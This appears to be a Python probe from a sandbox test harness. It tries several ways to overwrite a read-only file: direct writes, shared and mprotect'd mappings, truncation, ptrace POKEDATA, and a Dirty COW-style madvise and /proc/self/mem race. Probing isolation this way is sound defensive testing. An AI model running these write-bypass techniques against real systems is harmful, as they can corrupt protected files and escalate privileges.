# Routes to the page cache of a file that may only be read. The host compares the file before and after.
import mmap
import threading

target = P["target"]
before = open(target, "rb").read(64)


def changed():
    with open(target, "rb") as file:
        return None if file.read(64) != before else "unchanged"


def written():
    with open(target, "r+b") as file:
        file.write(b"overwritten by the probe")
    return changed()


def shared(protection):
    with open(target, "r+b" if MODE == "host" else "rb") as file:
        page = mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, protection)
        page[:24] = b"overwritten by the probe"
        page.flush()
    return changed()


def protect():
    libc.mmap.restype = ctypes.c_void_p
    flags = os.O_RDWR if MODE == "host" else os.O_RDONLY
    descriptor = os.open(target, flags)
    address = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, descriptor, ctypes.c_long(0))
    if libc.mprotect(ctypes.c_void_p(address), ctypes.c_size_t(4096), 3):
        raise OSError(ctypes.get_errno(), "")
    ctypes.memmove(address, b"overwritten by the probe", 24)
    return changed()


def own_memory(private):
    # Through /proc/self/mem, which writes where the mapping itself forbids it, with pages dropped meanwhile (Dirty COW).
    libc.mmap.restype = ctypes.c_void_p
    descriptor = os.open(target, os.O_RDWR if MODE == "host" else os.O_RDONLY)
    address = libc.mmap(None, ctypes.c_size_t(4096), 1, 2 if private else 1, descriptor, ctypes.c_long(0))
    over = threading.Event()

    def drop():
        while not over.is_set():
            libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=drop)
    thread.start()
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        for _ in range(2000 if private else 20):
            os.pwrite(memory, b"overwritten by the probe", address)
    finally:
        over.set()
        thread.join()
    return changed()


attempt("open for writing", written)
attempt("shared mapping", lambda: shared(mmap.PROT_READ | mmap.PROT_WRITE))
attempt("mprotect of a shared mapping", protect)
attempt("own memory, shared mapping", lambda: own_memory(False))
attempt("own memory, private mapping", lambda: own_memory(True))
attempt("truncate", lambda: os.truncate(target, 100))
call("ptrace", 5, os.getpid(), 0, 0, label="ptrace POKEDATA")
report()
